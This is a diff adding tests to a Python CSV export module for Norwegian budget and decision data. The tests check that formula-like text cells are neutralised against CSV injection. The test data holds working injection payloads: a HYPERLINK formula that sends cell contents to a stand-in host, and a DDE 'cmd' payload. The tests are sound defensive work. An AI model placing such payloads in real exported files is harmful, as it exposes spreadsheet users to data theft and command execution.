@@ -281,3 +281,43 @@ def test_escape_leaves_no_bare_specials(text):
     # every ; and , is preceded by an odd run of backslashes
     for m in re.finditer(r"(\\*)[;,]", escaped):
         assert len(m.group(1)) % 2 == 1
+
+
+FORMULAS = ["=HYPERLINK(\"http://x.example/?\"&A1,\"klikk\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
+            "\tTAB=1", "\rCR=1"]
+
+
+def test_csv_text_that_looks_like_a_formula_is_neutralised_in_every_csv():
+    """OWASP: a text cell starting with = + - @ tab or CR gets a leading apostrophe,
+    in every CSV and in headers too; amounts (ints) and plain signed numbers stay numbers."""
+    from dataclasses import replace
+
+    rows = [(f"x{i}.txt", replace(ROWS[2][1], title=f, comment=f, amounts=((f, -2000),)))
+            for i, f in enumerate(FORMULAS)]
+    texts = {
+        "budsjettlinjer": budget_rows_csv(rows),
+        "oppdrag": assignments_csv([("x.txt", replace(TB, title=f, deadline_text=f)) for f in FORMULAS]),
+        "vedtak": vedtak_csv([("x.txt", replace(VEDTAK[0][1], title=f)) for f in FORMULAS]),
+        "poster": posts_csv([replace(CHAPTERS[0], title=FORMULAS[0], posts=tuple(
+            replace(CHAPTERS[0].posts[0], title=f, amounts=((f, -5),)) for f in FORMULAS))], 2024),
+    }
+    for name, text in texts.items():
+        cells = [c for r in csv.reader(io.StringIO(text)) for c in r]
+        formulas = [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")
+                    or (c.startswith("-") and not c.lstrip("-").isdigit())]
+        assert formulas == [], (name, formulas)
+        for f in FORMULAS:
+            assert "'" + f.replace("\r", "\n") in cells, (name, f)  # still readable
+    rows_read = read(texts["budsjettlinjer"])
+    assert rows_read[0]["'" + FORMULAS[0]] == "-2000"  # an amount under a neutralised header
+    assert [r["title"] for r in read(texts["oppdrag"])][2] == "'-2+3"
+
+
+def test_csv_plain_negative_numbers_stay_numbers():
+    from generator.render.data import csv_cell
+
+    assert csv_cell(-1234) == -1234
+    assert csv_cell("-1234") == "-1234" and csv_cell("+12,5") == "+12,5"
+    assert csv_cell("-1234 kr") == "'-1234 kr" and csv_cell("=1") == "'=1"
+    assert csv_cell("Helse – og omsorg") == "Helse – og omsorg" and csv_cell(None) == ""
+    assert read(budget_rows_csv(ROWS))[2]["Tillegg 1"] == "-2000"
